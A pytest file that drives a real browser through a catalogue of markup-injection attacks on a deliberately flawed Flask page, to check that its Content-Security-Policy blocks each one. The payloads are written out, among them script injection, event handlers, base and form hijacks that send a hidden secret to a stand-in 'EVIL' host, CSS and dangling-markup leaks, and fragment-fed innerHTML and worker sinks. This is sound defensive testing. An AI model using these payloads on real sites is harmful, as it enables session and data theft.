"""Attacks on a page that shows text of others as markup, in a real browser.

Each names what a policy would have to allow for it to work, and goes exactly as far.
"""

from collections.abc import Iterator
from queue import Queue
from typing import NamedTuple

import pytest
from flask import Flask, Response, request
from playwright.sync_api import Browser, Page
from secure_flask import csp_nonce, public, testing
from secure_flask.csp_levels import DATA, HTTPS, NONCE, SELF, UNSAFE_INLINE
from secure_flask.web.csp import Directives

from views.browser.conftest import Elsewhere, Serve, new_page
from views.conftest import MakeApp

# The page with the flaw, and the best case for an attacker: all on one line, since browsers
# drop addresses that swallowed a line break and a "<".
PAGE = (
    "<!doctype html><title>Victim</title>MARKUP"
    '<script nonce="NONCE" src="helper.js"></script>'
    '<form id="form"><input type="hidden" name="code" value="secret"><button>Go</button></form>'
    '<p id="sink"></p><script nonce="NONCE">FLAW</script><p>It\'s all</p>'
)
WIN = 'location="/won"'
WON, STOPPED = "/won", "stopped"

FALLBACKS = {
    "script-src-elem": ["script-src", "default-src"],
    "script-src-attr": ["script-src", "default-src"],
    "style-src-elem": ["style-src", "default-src"],
    "style-src-attr": ["style-src", "default-src"],
    "img-src": ["default-src"],
    "frame-src": ["child-src", "default-src"],
    "object-src": ["default-src"],
    "worker-src": ["child-src", "script-src", "default-src"],
}

# What lets each in: one of these sources in that directive.
ELSEWHERE = {HTTPS, "*"}
INLINE_SCRIPT = {"script-src-elem": {UNSAFE_INLINE}}
OTHER_SCRIPT = {"script-src-elem": ELSEWHERE}
HANDLER = {"script-src-attr": {UNSAFE_INLINE}}
OTHER_IMAGE = {"img-src": ELSEWHERE}
OTHER_FORM = {"form-action": ELSEWHERE}
NO_TRUSTED_TYPES: dict[str, set[str]] = {"require-trusted-types-for": set()}


class Attack(NamedTuple):
    """One try. It works where the policy allows all that it needs."""

    markup: str
    needs: dict[str, set[str]]
    click: str = ""
    # A faulty script of the page's own, and what the attacker puts into the address.
    flaw: str = ""
    fragment: str = ""
    # The attacker's page that the user visits, in place of the victim's.
    lure: str = ""


ATTACKS = {
    "inline-script": Attack(f"<script>{WIN}</script>", INLINE_SCRIPT),
    "inline-script-with-an-old-nonce": Attack(f'<script nonce="OLD">{WIN}</script>', INLINE_SCRIPT),
    "event-attribute": Attack(f"<img src=x onerror='{WIN}'>", HANDLER),
    "javascript-link": Attack(
        f"<a href='javascript:void({WIN})'>Prize</a>", INLINE_SCRIPT, click="a"
    ),
    "script-of-another-origin": Attack('<script src="EVIL/attack.js"></script>', OTHER_SCRIPT),
    "script-of-a-data-address": Attack(
        f"<script src='data:text/javascript,{WIN}'></script>", {"script-src-elem": {DATA}}
    ),
    "script-of-an-own-address-that-echoes": Attack(
        f"<script src='/echo.js?text={WIN}'></script>", {"script-src-elem": {SELF, "*"}}
    ),
    "theft-of-the-next-nonce": Attack('<script src="EVIL/attack.js" x=', OTHER_SCRIPT),
    "base": Attack('<base href="EVIL/">', {"base-uri": ELSEWHERE}),
    "form": Attack('<form action="EVIL/won">', OTHER_FORM, click="button"),
    "button": Attack(
        '<button form="form" formaction="EVIL/won">Go</button>',
        OTHER_FORM,
        click="button:first-of-type",
    ),
    "object": Attack('<object data="EVIL/won"></object>', {"object-src": ELSEWHERE}),
    "srcdoc-frame": Attack(f"<iframe srcdoc='<script>top.{WIN}</script>'></iframe>", INLINE_SCRIPT),
    "frame": Attack('<iframe src="EVIL/won"></iframe>', {"frame-src": ELSEWHERE}),
    # No directive of any policy stops a page from being left.
    "refresh": Attack('<meta http-equiv="refresh" content="0;url=EVIL/won">', {}),
    "style-element": Attack(
        '<style>html:has([value^="s"]) {background: url(EVIL/won)}</style>',
        {"style-src-elem": {UNSAFE_INLINE}, **OTHER_IMAGE},
    ),
    "style-attribute": Attack(
        '<p style="background: url(EVIL/won)">Prize</p>',
        {"style-src-attr": {UNSAFE_INLINE}, **OTHER_IMAGE},
    ),
    "stylesheet": Attack(
        '<link rel="stylesheet" href="EVIL/attack.css">',
        {"style-src-elem": ELSEWHERE, **OTHER_IMAGE},
    ),
    "image-that-swallows-the-page": Attack("<img src='EVIL/won?", OTHER_IMAGE),
    "inner-html": Attack(
        "",
        {**HANDLER, **NO_TRUSTED_TYPES},
        flaw="sink.innerHTML = decodeURIComponent(location.hash.slice(1))",
        fragment=f"<img src=x onerror='{WIN}'>",
    ),
    "data-worker": Attack(
        "",
        {"worker-src": {DATA}, **NO_TRUSTED_TYPES},
        flaw=f"new Worker(location.hash.slice(1)).onmessage = () => {WIN}",
        fragment="data:text/javascript,postMessage(1)",
    ),
    "blob-worker": Attack(
        "",
        {"worker-src": {"blob:"}, **NO_TRUSTED_TYPES},
        flaw="const address = URL.createObjectURL(new Blob([location.hash.slice(1)]));"
        f"new Worker(address).onmessage = () => {WIN}",
        fragment="postMessage(1)",
    ),
    "framed": Attack(
        '<img src="/won">',
        {"frame-ancestors": ELSEWHERE},
        lure='<iframe src="SITE/victim"></iframe>',
    ),
}

# What a policy for older pages may let in.
TOLERATED = {
    "frame",
    "image-that-swallows-the-page",
    "refresh",
    "script-of-an-own-address-that-echoes",
    "style-attribute",
    "style-element",
    "stylesheet",
}


@pytest.fixture
def app(make_app: MakeApp) -> Flask:
    """Its Content-Security-Policy stands alone: tests/engines/leaving.py shows what LINKS closes."""
    return make_app(LINKS=None)


@pytest.fixture
def page(browser: Browser, page: Page, app: Flask, attack: Attack) -> Iterator[Page]:
    if not works(attack, testing.page_csp(app)):
        yield page
        return
    # One that wins may still be on its way to another page when the next begins. Chromium may
    # never answer when such a page is closed alone, so it goes with a separate context.
    with new_page(browser) as own_page:
        yield own_page


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_gets_as_far_as_the_policy_lets_it(
    app: Flask, serve: Serve, page: Page, attack: Attack
) -> None:
    seen: Queue[str] = Queue()
    evil = Elsewhere(seen)
    evil_origin = serve(evil, https=True).at("127.0.0.1")
    start, site = prepare(app, attack, evil, evil_origin, serve)
    # A click before all is there hits nothing; what needs no click may be over by then.
    page.goto(start, wait_until="domcontentloaded" if attack.click else "commit")
    if attack.click:
        page.click(attack.click, no_wait_after=True)
    expected = WON if works(attack, testing.page_csp(app)) else STOPPED
    assert outcome(seen) == expected
    if expected == STOPPED:
        page.goto(f"{site}/healthz")
        assert WON not in seen.queue


def test_no_attack_that_runs_a_script_or_steals_a_form_works(app: Flask) -> None:
    working = {name for name, attack in ATTACKS.items() if works(attack, testing.page_csp(app))}
    assert working <= TOLERATED, working


def prepare(
    app: Flask, attack: Attack, evil: Elsewhere, evil_origin: str, serve: Serve
) -> tuple[str, str]:
    """Serve the app with a page that has a flaw; where the attack begins, and its origin."""
    add_victim(app, attack, evil_origin, evil.asked)
    site = serve(app).at("localhost")
    evil.pages = {
        "/attack.js": WIN,
        "/helper.js": WIN,
        "/attack.css": "html {background: url(/won)}",
        "/": attack.lure.replace("SITE", site),
    }
    app.test_client().get("/victim")
    return evil_origin if attack.lure else f"{site}/victim#{attack.fragment}", site


def add_victim(app: Flask, attack: Attack, evil: str, seen: "Queue[str]") -> None:
    """Give the app a page with a flaw, and note what it is asked for and what was stopped."""
    nonces = ["none yet"]

    @app.before_request
    def note() -> None:
        report = request.get_json(force=True) if request.path == "/csp-reports" else {}
        # A policy that only reports stops nothing.
        enforced = report.get("csp-report", {}).get("disposition") == "enforce"
        seen.put(STOPPED if enforced else request.path)

    @app.get("/victim")
    @public
    def victim() -> str:
        markup = attack.markup.replace("EVIL", evil).replace("OLD", nonces[-1])
        nonces.append(csp_nonce())
        text = PAGE.replace("MARKUP", markup).replace("FLAW", attack.flaw)
        return text.replace("NONCE", nonces[-1])

    @app.get("/<any(helper, echo):name>.js")
    @public
    def script(name: str) -> Response:
        return Response(request.args.get("text", ""), mimetype="text/javascript")


def outcome(seen: "Queue[str]") -> str:
    """What happens first: the attack wins, or the browser reports that it stopped something."""
    return next(
        event for event in iter(lambda: seen.get(timeout=10), "") if event in (WON, STOPPED)
    )


def works(attack: Attack, policy: Directives) -> bool:
    return all(allows(policy, directive, by) for directive, by in attack.needs.items())


def allows(policy: Directives, directive: str, by: set[str]) -> bool:
    """Whether a policy names one of these sources where the directive takes them from."""
    chain = [directive, *FALLBACKS.get(directive, [])]
    sources = next((policy[name] for name in chain if name in policy), None)
    if sources is None:
        return True
    # A nonce switches 'unsafe-inline' off.
    counting = set(sources) - {UNSAFE_INLINE} if NONCE in sources else set(sources)
    return not by.isdisjoint(counting)
